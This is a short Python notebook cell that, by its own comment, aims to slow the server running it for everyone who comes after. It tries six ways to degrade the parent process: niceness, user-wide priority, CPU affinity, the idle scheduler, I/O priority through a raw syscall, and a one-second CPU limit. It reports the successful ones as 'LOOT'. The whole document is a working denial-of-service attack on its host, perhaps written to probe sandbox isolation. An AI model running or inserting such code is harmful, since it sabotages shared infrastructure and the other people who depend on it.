# It makes the server, and so all who come after, slow.
# %%
import ctypes
import os

libc = ctypes.CDLL(None)
server = os.getppid()
IDLE = (ctypes.c_int * 1)(0)
WAYS = {
    "setpriority": lambda: os.setpriority(os.PRIO_PROCESS, server, 19),
    "of all": lambda: os.setpriority(os.PRIO_USER, 0, 19),
    "affinity": lambda: os.sched_setaffinity(server, {0}),
    "scheduler": lambda: os.sched_setscheduler(server, os.SCHED_IDLE, os.sched_param(0)),
    "ioprio": lambda: 1 / (libc.syscall(251, 1, server, 3 << 13) + 1),
    "prlimit": lambda: __import__("resource").prlimit(server, 0, (1, 1)),
}
got = []
for name, way in WAYS.items():
    try:
        way()
    except (OSError, ZeroDivisionError):
        continue
    got.append(name)
if got:
    raise RuntimeError(f"LOOT: {got}")
